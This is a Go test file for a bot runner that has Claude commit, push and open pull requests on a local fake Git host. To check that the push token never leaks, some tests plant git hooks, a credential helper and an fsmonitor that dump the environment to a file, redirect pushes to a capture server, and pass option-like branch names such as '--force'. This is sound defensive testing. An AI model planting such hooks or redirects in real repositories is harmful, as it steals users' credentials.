package runner

import (
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"flaudebot/local/forge"
)

const writeToken, readToken = "a-token-that-writes", "a-token-that-reads"

// published is a machine whose session has the repository acme/app of a Git host.
type published struct {
	*machine
	url  string
	repo Repo
	kind ForgeKind
}

func atForge(t *testing.T, kind ForgeKind, protected ...string) *published {
	t.Helper()
	s, err := forge.New(forge.Config{
		Dir: t.TempDir(), Tokens: map[string]forge.Right{writeToken: forge.Write, readToken: forge.Read}, Protected: protected,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Add("acme/app", gitRepo(t, "main")); err != nil {
		t.Fatal(err)
	}
	h := httptest.NewServer(s.Handler())
	t.Cleanup(h.Close)
	return &published{machine: newMachine(t).boot(), url: h.URL, repo: Repo{URL: h.URL + "/acme/app.git"}, kind: kind}
}

func (p *published) turnOf(prompt string) Turn {
	turn := p.turn(prompt)
	turn.Repos = []Repo{p.repo}
	turn.Settings.Forges = []Forge{{strings.TrimPrefix(p.url, "http://"), p.kind}}
	turn.Trailers = []string{"Requested-by: Mia (Slack U1)"}
	return turn
}

// sh has Claude run a script in the repository.
func (p *published) sh(script string) string {
	p.t.Helper()
	out, answer := p.run(p.turnOf("sh: set -e; cd app; "+script), Secrets{})
	if out.Failure != FailNone || strings.Contains(answer, "exit status") {
		p.t.Fatalf("outcome = %+v: %s", out, answer)
	}
	return answer
}

func (p *published) publish(token string, change func(*Publish)) Outcome {
	p.t.Helper()
	turn := p.turnOf("")
	what := Publish{Dir: "app", Branch: "flaudebot/fix", Title: "Fix it", Body: "For *you*"}
	if change != nil {
		change(&what)
	}
	turn.Errand = &Errand{Kind: ErrandPublish, Publish: &what}
	out, _ := p.run(turn, Secrets{GitToken: token})
	if strings.Contains(p.everything(), writeToken) {
		p.t.Error("the token is on the volume")
	}
	return out
}

// at asks the repository at the host.
func (p *published) at(args ...string) string {
	p.t.Helper()
	dir := filepath.Join(p.t.TempDir(), "look")
	cmd := exec.Command("sh", "-c", `git clone -q "$1" "$2" && cd "$2" && shift 2 && git "$@"`, "sh", p.repo.URL, dir)
	cmd.Args = append(cmd.Args, args...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		p.t.Fatalf("git %v: %v: %s", args, err, out)
	}
	_ = os.RemoveAll(dir)
	return string(out)
}

func TestPublish(t *testing.T) {
	t.Parallel()
	for kind, page := range map[ForgeKind]string{ForgeGitHub: "/acme/app/pull/1", ForgeGitLab: "/acme/app/-/merge_requests/1"} {
		t.Run("work on the base branch, committed and not, at "+string(kind), func(t *testing.T) {
			t.Parallel()
			p := atForge(t, kind)
			p.sh("echo 1 > one; git add one; git commit -q -m One; echo 2 > two")
			out := p.publish(writeToken, func(w *Publish) { w.Commit = true })
			want := Pull{Dir: "app", URL: p.url + page, Number: "1"}
			if out.Failure != FailNone || !slices.Equal(out.Pulls, []Pull{want}) || out.NewPull != "" || out.Branches[0].Name != "flaudebot/fix" {
				t.Fatalf("outcome = %+v", out)
			}
			if st := out.Repos[0]; st.Changed != 0 || st.Unpushed != 0 || st.Branch != "flaudebot/fix" {
				t.Errorf("the repository is %+v, want it on the branch, with nothing that is not pushed", st)
			}
			log := p.at("log", "--format=%an: %s %(trailers:separator=%x2C)", "origin/main..origin/flaudebot/fix")
			if log != "Claude: Fix it Requested-by: Mia (Slack U1)\nClaude: One Requested-by: Mia (Slack U1)\n" {
				t.Errorf("the branch has\n%s", log)
			}
			// Once more: what is there is found, and what came since is pushed.
			p.sh("echo 3 > three; git add .; git commit -q -m Three")
			out = p.publish(writeToken, nil)
			want.Existed = true
			if out.Failure != FailNone || !slices.Equal(out.Pulls, []Pull{want}) {
				t.Errorf("the second time: %+v", out)
			}
			if n := p.at("rev-list", "--count", "origin/main..origin/flaudebot/fix"); n != "3\n" {
				t.Errorf("the branch has %s commits", n)
			}
		})
	}
	t.Run("what is not committed stays where it is, unless it is asked for", func(t *testing.T) {
		t.Parallel()
		p := atForge(t, ForgeGitHub)
		p.sh("git switch -q -c mine; git commit -q --allow-empty -m One; echo 2 > two")
		out := p.publish(writeToken, nil)
		if st := out.Repos[0]; out.Failure != FailNone || st.Branch != "mine" || st.Changed != 1 || st.Unpushed != 0 {
			t.Errorf("outcome = %+v", out)
		}
	})
	t.Run("Claude's commands never see the token", func(t *testing.T) {
		t.Parallel()
		p := atForge(t, ForgeGitHub)
		// A repository that spies: hooks, a monitor, filters and helpers of its own, and another address.
		p.sh(`mkdir -p .git/hooks; for h in pre-push pre-commit post-commit reference-transaction; do printf '#!/bin/sh\nenv >> ../../spied; cat >> ../../spied; echo "$@" >> ../../spied' > .git/hooks/$h; chmod +x .git/hooks/$h; done
			git config credential.helper '!env >> ../../spied; cat >> ../../spied; :'; git config core.fsmonitor 'env >> ../../spied'
			git config remote.origin.pushurl http://localhost:1/evil; echo 1 > one`)
		out := p.publish(writeToken, func(w *Publish) { w.Commit = true })
		if out.Failure != FailNone {
			t.Errorf("outcome = %+v", out)
		}
		if raw, _ := os.ReadFile(filepath.Join(p.cfg.Data, "spied")); strings.Contains(string(raw), writeToken) {
			t.Errorf("the repository has seen it: %s", raw)
		}
	})
	for _, c := range []struct {
		name, script, token string
		change              func(*Publish)
		want                Failure
		words               string
	}{
		{"nothing to push", "true", writeToken, nil, FailNothing, "has no commits that main does not have"},
		{"nothing to push, since it is not committed", "echo 1 > one", writeToken, nil, FailNothing, ""},
		{"a protected branch", "git commit -q --allow-empty -m One", writeToken, func(w *Publish) { w.Branch = "guarded" }, FailProtected, "GH006"},
		{"no token", "git commit -q --allow-empty -m One", "", nil, FailNoToken, "could not read Username"},
		{"a token that the host does not know", "git commit -q --allow-empty -m One", "another-token", nil, FailNoRight, "Authentication failed"},
		{"a token that may not push", "git commit -q --allow-empty -m One", readToken, nil, FailNoRight, "403"},
		{
			"a merge with conflicts", "echo 1 > one; git add .; git commit -q -m One; git switch -q -c b HEAD~1; echo 2 > one; git add .; git commit -q -m Two; git merge main >/dev/null || true",
			writeToken, func(w *Publish) { w.Commit = true }, FailErrand, "conflicts",
		},
		{"a base that is not there", "git commit -q --allow-empty -m One", writeToken, func(w *Publish) { w.Base = "none" }, FailForge, "Validation Failed"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p := atForge(t, ForgeGitHub, "guarded")
			p.sh(c.script)
			out := p.publish(c.token, c.change)
			if out.Failure != c.want || !strings.Contains(out.Error, c.words) || out.ExitCode != 1 || len(out.Pulls) != 0 || out.Repos == nil {
				t.Errorf("outcome = %+v, want %s", out, c.want)
			}
			if pushed := len(out.Branches) > 0; pushed != (c.want == FailForge) || pushed != (out.NewPull != "") {
				t.Errorf("branches = %+v, new pull request = %q", out.Branches, out.NewPull)
			}
		})
	}
	t.Run("a branch that somebody else has at the host is left alone", func(t *testing.T) {
		t.Parallel()
		p := atForge(t, ForgeGitHub)
		p.sh("git commit -q --allow-empty -m One")
		p.at("-c", "user.name=x", "-c", "user.email=x@y", "-c", "alias.take=!git commit -q --allow-empty -m Theirs && git push -q http://x:"+writeToken+"@"+
			strings.TrimPrefix(p.repo.URL, "http://")+" HEAD:refs/heads/flaudebot/fix", "take")
		if out := p.publish(writeToken, nil); out.Failure != FailTaken || out.Error != "push: [rejected] (fetch first)" {
			t.Errorf("outcome = %+v", out)
		}
		if log := p.at("log", "-1", "--format=%s", "origin/flaudebot/fix"); log != "Theirs\n" {
			t.Errorf("the branch has %s", log)
		}
	})
	t.Run("a host that is not to have the token does not get it", func(t *testing.T) {
		t.Parallel()
		p := atForge(t, ForgeGitHub)
		p.sh("git commit -q --allow-empty -m One")
		turn := p.turnOf("")
		turn.Errand = &Errand{Kind: ErrandPublish, Publish: &Publish{Dir: "app", Branch: "fix", Title: "T"}}
		if out, _ := p.run(turn, Secrets{GitToken: writeToken, GitOrigins: []string{"https://github.com"}}); out.Failure != FailNoToken {
			t.Errorf("outcome = %+v", out)
		}
	})
	t.Run("where a repository's settings lead a push, the token does not go", func(t *testing.T) {
		t.Parallel()
		sent := make(chan string, 100)
		other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if _, password, ok := r.BasicAuth(); ok {
				sent <- password
			}
			w.Header().Set("WWW-Authenticate", `Basic realm="x"`)
			w.WriteHeader(http.StatusUnauthorized)
		}))
		t.Cleanup(other.Close)
		for _, key := range []string{"insteadOf", "pushInsteadOf"} {
			p := atForge(t, ForgeGitHub)
			p.sh("git commit -q --allow-empty -m One; git config url." + other.URL + "/." + key + " " + p.url + "/")
			if out := p.publish(writeToken, nil); out.Failure != FailNoRight || len(out.Branches) != 0 {
				t.Errorf("%s: outcome = %+v", key, out)
			}
		}
		if len(sent) > 0 {
			t.Errorf("it was sent %q", <-sent)
		}
	})
	t.Run("the branch that it would be for is not pushed to, also where nobody named it", func(t *testing.T) {
		t.Parallel()
		p := atForge(t, ForgeGitHub)
		p.sh("git commit -q --allow-empty -m One")
		out := p.publish(writeToken, func(w *Publish) { w.Branch = "main" })
		if out.Failure != FailErrand || len(out.Branches) != 0 || p.at("log", "-1", "--format=%s", "origin/main") == "One\n" {
			t.Errorf("outcome = %+v", out)
		}
	})
	t.Run("Stop ends a push that hangs", func(t *testing.T) {
		t.Parallel()
		p := atForge(t, ForgeGitHub)
		p.sh("git commit -q --allow-empty -m One")
		res, err := http.Post(p.url+"/local/faults", "application/json", strings.NewReader(`{"method":"git","delay_ms":600000}`))
		if err != nil {
			t.Fatal(err)
		}
		_ = res.Body.Close()
		turn := p.turnOf("")
		turn.Errand = &Errand{Kind: ErrandPublish, Publish: &Publish{Dir: "app", Branch: "fix", Title: "T"}}
		p.begin(turn, Secrets{GitToken: writeToken})
		p.look(turn, 0, func(e Event) bool { return e.Tool == "git push" })
		p.stop(turn)
		if out, _ := p.end(turn); out.Failure != FailStopped || out.ExitCode != 130 {
			t.Errorf("outcome = %+v", out)
		}
	})
	t.Run("a runner that dies in mid-push is told, and the next press goes on from there", func(t *testing.T) {
		t.Parallel()
		p := atForge(t, ForgeGitHub)
		p.sh("echo 1 > one")
		fault := func(body string) {
			res, err := http.Post(p.url+"/local/faults", "application/json", strings.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			_ = res.Body.Close()
		}
		fault(`{"method":"find","delay_ms":600000}`) // it has pushed
		turn := p.turnOf("")
		turn.Errand = &Errand{Kind: ErrandPublish, Publish: &Publish{Dir: "app", Branch: "fix", Title: "T", Commit: true}}
		p.begin(turn, Secrets{GitToken: writeToken})
		p.look(turn, 0, func(e Event) bool { return e.Tool == "pull request" })
		_ = p.cmd.Process.Kill()
		p.exit()
		fault(`{}`)
		p.boot()
		if r := p.take(turn, Secrets{GitToken: writeToken}); r.Status != StatusInterrupted {
			t.Errorf("take again = %+v, want that it was interrupted", r)
		}
		out := p.publish(writeToken, func(w *Publish) { w.Branch, w.Commit = "fix", true })
		if out.Failure != FailNone || len(out.Pulls) != 1 || out.Pulls[0].Existed || p.at("rev-list", "--count", "origin/main..origin/fix") != "1\n" {
			t.Errorf("outcome = %+v", out)
		}
	})
	t.Run("a host of which nobody knows what it is gets the branch", func(t *testing.T) {
		t.Parallel()
		p := atForge(t, "")
		p.sh("git commit -q --allow-empty -m One")
		out := p.publish(writeToken, nil)
		if out.Failure != FailNoForge || len(out.Branches) != 1 || out.Branches[0].URL != "" || out.Repos[0].Unpushed != 0 {
			t.Errorf("outcome = %+v", out)
		}
	})
	t.Run("an answer that is lost, and a host that is in trouble", func(t *testing.T) {
		t.Parallel()
		p := atForge(t, ForgeGitHub)
		p.sh("git commit -q --allow-empty -m One")
		for _, fault := range []string{`{"method":"open","drop":true,"after_effect":true,"nth":1}`, `{"method":"find","status":503,"nth":1}`} {
			res, err := http.Post(p.url+"/local/faults", "application/json", strings.NewReader(fault))
			if err != nil {
				t.Fatal(err)
			}
			_ = res.Body.Close()
		}
		if out := p.publish(writeToken, nil); out.Failure != FailNone || len(out.Pulls) != 1 || out.Pulls[0].Number != "1" {
			t.Errorf("outcome = %+v", out)
		}
	})
	t.Run("what makes no sense is refused, and never begun", func(t *testing.T) {
		t.Parallel()
		m := newMachine(t).boot()
		good := Publish{Dir: "app", Branch: "fix", Base: "main", Title: "T"}
		for name, change := range map[string]func(*Publish){
			"another folder": func(w *Publish) { w.Dir = "../other" }, "a branch that is an option": func(w *Publish) { w.Branch = "--force" },
			"a branch with a colon": func(w *Publish) { w.Branch = "a:b" }, "the base itself": func(w *Publish) { w.Branch = "main" },
			"no title": func(w *Publish) { w.Title = " " }, "too much": func(w *Publish) { w.Body = strings.Repeat("x", maxPublishText) },
			"a base that is an option": func(w *Publish) { w.Base = "-x" },
		} {
			what := good
			change(&what)
			turn := m.errand(Errand{Kind: ErrandPublish, Publish: &what})
			turn.Repos = []Repo{{URL: "https://github.com/acme/app"}}
			if r := m.take(turn, Secrets{}); r.Status != StatusInvalid || r.Failure != FailErrand {
				t.Errorf("%s: take = %+v", name, r)
			}
		}
	})
}

// TestRescue: what no remote has reaches branches of its own, all of it, and the session holds nothing that is nowhere else.
func TestRescue(t *testing.T) {
	t.Parallel()
	p := atForge(t, ForgeGitHub)
	p.sh("git switch -q -c 'feature/a b' 2>/dev/null || git switch -q -c feature/ab; git commit -q --allow-empty -m OnBranch; git switch -q main; git commit -q --allow-empty -m OnMain; echo 1 > new; echo 2 >> branch")
	rescue := func(token string) Outcome {
		turn := p.turnOf("")
		turn.Errand = &Errand{Kind: ErrandRescue, Rescue: &Rescue{Branch: "flaudebot/saved-1"}}
		out, _ := p.run(turn, Secrets{GitToken: token})
		return out
	}
	if out := rescue(readToken); out.Failure != FailNoRight || !strings.HasPrefix(out.Error, "app: ") || out.Repos[0].Unpushed == 0 {
		t.Errorf("with a token that may not push: %+v", out)
	}
	out := rescue(writeToken)
	var names []string
	for _, b := range out.Branches {
		names = append(names, b.Name)
	}
	if out.Failure != FailNone || !slices.Equal(names, []string{"flaudebot/saved-1", "flaudebot/saved-1-feature-ab"}) {
		t.Errorf("outcome = %+v", out)
	}
	if st := out.Repos[0]; st.Changed != 0 || st.Unpushed != 0 || st.Unknown {
		t.Errorf("the repository still holds %+v", st)
	}
	if files := p.at("ls-tree", "--name-only", "origin/flaudebot/saved-1"); files != "branch\nnew\n" {
		t.Errorf("the branch has %s", files)
	}
	if out := rescue(writeToken); out.Failure != FailNone || len(out.Branches) != 0 {
		t.Errorf("once more: %+v", out)
	}
}

func TestCheckBranch(t *testing.T) {
	t.Parallel()
	for name, good := range map[string]bool{
		"fix": true, "flaudebot/fix-1.2_x+y": true, "": false, "-x": false, "a b": false, "a..b": false, "a//b": false, "a/": false, "/a": false, "a.lock": false,
		"a/.b": false, "a:b": false, "a~1": false, "a^": false, "a@{1}": false, "a.": false, strings.Repeat("x", 201): false, "refs\n": false,
	} {
		if err := CheckBranch(name); (err == nil) != good {
			t.Errorf("%q: %v", name, err)
		}
	}
}
